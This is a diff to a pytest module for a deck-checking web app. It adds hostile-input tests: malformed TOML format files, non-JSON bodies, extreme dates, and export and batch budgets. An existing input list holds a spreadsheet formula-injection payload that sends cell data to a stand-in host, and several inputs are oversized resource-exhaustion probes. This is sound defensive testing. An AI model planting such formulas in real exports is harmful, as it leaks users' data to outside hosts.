@@ -44,6 +44,9 @@ def adversarial() -> dict[str, str]:
         ).decode(errors="replace"),
         "formula": '=HYPERLINK("http://example.invalid/?x="&B3,"x")',
         "numbers": "9" * 5_000 + " ST1-03\n" + "-1 ST1-03\n0 ST1-03\n1e999 ST1-03",
+        "far-future": "9999-12-31",
+        "far-past": "0001-01-01",
+        "offset-deadline": "9999-12-31T23:59:59-05:00",
     }
 
 
@@ -89,12 +92,30 @@ def check(response, spent: float, path: str, label: str) -> None:
         assert set(error) == {"code", "message", "details"}, where
 
 
+# Organizer format files that broke every format route or validate (issue 22); they sit
+# in the hostile app's folder for every test of this module, beside a good one.
+BAD_FORMATS = {
+    "deep.toml": 'id = "deep"\nextends = "dcg"\ndescription = ' + "[" * 1000 + "]" * 1000,
+    "dotted.toml": 'id = "dotted"\nextends = "dcg"\na.b.c.d.e.f.g.h.i = 1\n',
+    "datetime.toml": 'id = "datetime"\nextends = "dcg"\ndate = 2024-03-01T10:00:00\n',
+    "huge.toml": 'id = "huge"\nextends = "dcg"\ndescription = "' + "x" * 70_000 + '"\n',
+    "long-list.toml": 'id = "long"\nextends = "dcg"\nbanned = [' + '"BT1-010", ' * 5001 + "]\n",
+}
+BANNED_2000 = ", ".join(f'"BT{i // 100 + 1}-{i % 100:03d}"' for i in range(2000))
+GOOD_FORMATS = {
+    "good.toml": 'id = "good"\nextends = "dcg"\ndate = 2024-03-01\n',
+    "banned-2000.toml": f'id = "banned-2000"\nextends = "dcg"\nbanned = [{BANNED_2000}]\n',
+}
+
+
 @pytest.fixture(scope="module")
 def hostile_app(tmp_path_factory):
     from deckcheck import create_app
 
     folder = tmp_path_factory.mktemp("hostile")
     (folder / "formats").mkdir()
+    for name, text in {**BAD_FORMATS, **GOOD_FORMATS}.items():
+        (folder / "formats" / name).write_text(text)
     return create_app(
         {
             "TESTING": True,
@@ -193,3 +214,167 @@ def test_a_thousand_unknown_names_are_reported_in_bounded_time(hostile):
     )
     assert response.status_code == 200 and len(response.get_json()["results"]) == 16
     assert spent < SERVER_SECONDS * 4
+
+
+# -- issue 22: organizer files, format pages, bodies that are not JSON, budgets --------
+
+
+def test_bad_format_files_are_listed_and_every_route_keeps_working(hostile_app, hostile):
+    listed = hostile.get("/api/v1/formats").get_json()
+    assert {e["file"] for e in listed["errors"]} == set(BAD_FORMATS)
+    ids = {f["id"] for f in listed["data"]}
+    assert {"good", "banned-2000", "dcg"} <= ids
+    assert not ids & {"deep", "dotted", "datetime", "huge", "long"}
+    for rule, method in routes(hostile_app):
+        if method != "GET" or rule.arguments:
+            continue
+        response, spent = send(hostile, method, rule.rule)
+        check(response, spent, rule.rule, "bad format files present")
+    for format_id in ("good", "dcg"):
+        for path in (f"/formats/{format_id}", f"/api/v1/formats/{format_id}"):
+            assert hostile.get(path).status_code == 200, path
+        response = hostile.post(
+            "/api/v1/decks/validate", json={"format": format_id, "decklist": "4 ST1-03"}
+        )
+        assert response.status_code == 200, format_id
+    assert hostile.get("/api/v1/health").status_code == 200
+
+
+@pytest.mark.parametrize("path", ["/formats/banned-2000", "/api/v1/formats/banned-2000"])
+def test_a_format_page_is_linear_in_its_lists(hostile, path):
+    hostile.get(path)  # the template compiled, the lists' days cached
+    response, spent = send(hostile, "GET", path)
+    assert response.status_code == 200
+    # 2,000 banned numbers took 6-25 s before (each card looked through the whole list).
+    assert spent < 1.0, spent
+    if not path.startswith("/api/"):
+        assert response.get_data(as_text=True).count('class="status banned"') >= 2000
+
+
+def json_routes(app) -> list[tuple[Rule, str]]:
+    """Every API route that reads a body (POST, PUT, PATCH under /api/)."""
+    return [
+        (rule, method)
+        for rule, method in routes(app)
+        if rule.rule.startswith("/api/") and method in ("POST", "PUT", "PATCH")
+    ]
+
+
+@pytest.mark.parametrize(
+    ("content_type", "body"),
+    [
+        ("application/x-www-form-urlencoded", "format=dcg&decklist=4+ST1-03"),
+        (
+            "multipart/form-data; boundary=x",
+            '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--x--\r\n',
+        ),
+        ("text/plain", "4 ST1-03"),
+    ],
+    ids=["form", "multipart", "text"],
+)
+def test_a_body_that_is_not_json_is_415_on_every_json_route(
+    hostile_app, hostile, content_type, body
+):
+    found = json_routes(hostile_app)
+    assert len(found) >= 4
+    for rule, method in found:
+        path = url(rule, "x")
+        response = hostile.open(path, method=method, data=body, content_type=content_type)
+        if response.status_code in (404, 405):  # no such event, or a route of another verb
+            continue
+        assert response.status_code == 415, (method, path, response.status_code)
+        error = response.get_json()["error"]
+        assert error["code"] == "unsupported-media-type" and "send JSON" in error["message"]
+
+
+def test_json_sent_under_another_type_is_still_read(hostile):
+    body = json.dumps({"format": "dcg", "decklist": "4 ST1-03"})
+    response = hostile.post(
+        "/api/v1/decks/validate", data=body, content_type="application/x-www-form-urlencoded"
+    )
+    assert response.status_code == 200 and "legal" in response.get_json()
+
+
+def test_the_415_is_in_the_openapi_document(hostile_app, hostile):
+    document = hostile.get("/api/v1/openapi.json").get_json()
+    for rule, method in json_routes(hostile_app):
+        path = rule.rule.removeprefix("/api/v1")
+        for name in rule.arguments:
+            path = path.replace(f"<{name}>", "{" + name + "}")
+        operation = document["paths"][path][method.lower()]
+        if "requestBody" in operation:  # a POST without a body (lock) reads no JSON
+            assert "415" in operation["responses"], (method, path)
+
+
+@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01", "3000-01-01", "1969-12-31"])
+def test_dates_out_of_range_are_422(hostile, day):
+    body = {"format": "dcg", "decklist": "4 ST1-03", "date": day}
+    for path, extra in [
+        ("/api/v1/decks/validate", {}),
+        ("/api/v1/decks/export", {"style": "text"}),
+        ("/api/v1/decks/odds", {}),
+    ]:
+        assert hostile.post(path, json={**body, **extra}).status_code == 422, (path, day)
+    batch = {"format": "dcg", "date": day, "decks": [{"decklist": "4 ST1-03"}]}
+    assert hostile.post("/api/v1/decks/validate-batch", json=batch).status_code == 422
+    assert hostile.get("/api/v1/cards", query_string={"q": "agu", "date": day}).status_code == 422
+    assert hostile.post("/report", data=body).status_code == 422
+    assert hostile.get("/report", query_string=body).status_code == 422
+
+
+def test_an_export_is_budgeted(hostile):
+    lines = "\n".join(f"1000 ST1-{i % 16 + 1:02d}" for i in range(1000))  # 1,000,000 cards
+    body = {"format": "dcg", "decklist": lines, "style": "tts"}
+    response, spent = send(hostile, "POST", "/api/v1/decks/export", json=body)
+    assert response.status_code == 422 and spent < SERVER_SECONDS
+    assert response.get_json()["error"]["code"] == "export-too-large"
+    page, _ = send(hostile, "POST", "/report/export/tts", data=body)
+    assert page.status_code == 422 and len(page.data) < 100_000
+    text, _ = send(hostile, "POST", "/api/v1/decks/export", json={**body, "style": "text"})
+    assert text.status_code == 200 and len(text.data) < 100_000
+    fits = {**body, "decklist": "\n".join(f"1000 ST1-{i:02d}" for i in range(1, 17))}
+    response = hostile.post("/api/v1/decks/export", json=fits)  # 16,000 cards: under budget
+    assert response.status_code == 200 and len(json.loads(response.get_json()["content"])) > 16_000
+
+
+def test_a_batch_over_its_line_budget_is_refused_at_once(hostile):
+    decks = [{"id": i, "decklist": "a\n" * 999} for i in range(501)]  # 500,499 lines
+    response, spent = send(
+        hostile, "POST", "/api/v1/decks/validate-batch", json={"format": "dcg", "decks": decks}
+    )
+    assert response.status_code == 422 and spent < 1.0
+    assert response.get_json()["error"]["code"] == "batch-too-large"
+
+
+def test_a_batch_stops_when_its_time_budget_is_spent(hostile, monkeypatch):
+    """Decks that cost 50 ms of CPU each (a test-only cost, as 20 unknown names cost
+    on the full pool): the batch answers what it checked within its budget, and says
+    which decks it left."""
+    from deckcheck import service
+
+    real = service.check
+
+    def costly(*args, **kwargs):
+        until = time.thread_time() + 0.05
+        while time.thread_time() < until:
+            pass
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(service, "check", costly)
+    decks = [{"id": i, "decklist": "4 ST1-03"} for i in range(200)]  # 10 s of decks
+    response, spent = send(
+        hostile, "POST", "/api/v1/decks/validate-batch", json={"format": "dcg", "decks": decks}
+    )
+    assert response.status_code == 200
+    budget = service.BATCH_BASE_SECONDS + 200 * service.BATCH_SECONDS_PER_LINE
+    assert spent < budget + 0.5, spent
+    body = response.get_json()
+    results = body["results"]
+    assert [r["id"] for r in results] == list(range(200))
+    checked = [r for r in results if r.get("fingerprint")]
+    left = [r for r in results if r.get("error", {}).get("code") == "over-budget"]
+    assert checked and left and len(checked) + len(left) == 200
+    assert results.index(left[0]) == len(checked)  # the first decks are the checked ones
+    [warning] = body["warnings"]
+    assert warning["code"] == "over-budget"
+    assert warning["details"]["not_checked"] == len(left)
